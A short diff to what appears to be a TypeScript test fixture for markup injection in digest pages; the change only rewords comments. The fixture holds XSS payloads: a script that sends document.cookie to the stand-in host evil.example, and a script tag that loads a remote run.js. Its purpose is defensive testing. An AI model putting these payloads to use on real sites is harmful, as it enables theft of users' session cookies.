@@ -1,10 +1,10 @@
 import { localFile, longSequences, textOf, type LocalFile } from "./files.ts";
 
-/** What a script of a digest would do if it ran: leave a trace in the page, and call out. */
+/** What a script in a digest would do if it ran: leave a trace in the page, and make a request. */
 export const TRACE = "duiduRan";
 const run = `window.${TRACE}=1;alert(1);fetch('https://evil.example/?'+document.cookie)`;
 
-/** Markup that runs or calls out where foreign text becomes markup. */
+/** Markup that runs or makes requests if foreign text becomes markup. */
 const traps = [
   `<script>${run}</script>`,
   `<script src="https://evil.example/run.js"></script>`,
